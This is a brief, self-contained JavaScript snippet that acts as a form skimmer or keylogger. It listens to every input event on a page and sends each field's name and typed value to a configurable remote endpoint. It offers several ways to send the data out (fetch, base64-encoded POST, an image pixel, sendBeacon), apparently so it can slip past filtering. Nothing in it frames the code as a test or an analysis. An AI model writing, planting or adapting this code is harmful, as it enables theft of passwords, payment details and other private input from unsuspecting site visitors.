// Sends what is typed while it is typed. data-how: fetch, base64, image or beacon.
(() => {
  const { to, how } = document.currentScript.dataset;
  const encode = (text) => btoa(unescape(encodeURIComponent(text)));
  addEventListener("input", (event) => {
    const { name, value } = event.target;
    if (how === "base64") fetch(to, { method: "POST", mode: "no-cors", body: encode(JSON.stringify({ name, value })) });
    else if (how === "image") new Image().src = `${to}?f=${name}&v=${encodeURIComponent(value)}`;
    else if (how === "beacon") navigator.sendBeacon(to, JSON.stringify({ [name]: value }));
    else fetch(to, { method: "POST", mode: "no-cors", body: JSON.stringify({ name, value }) });
  }, true);
})();
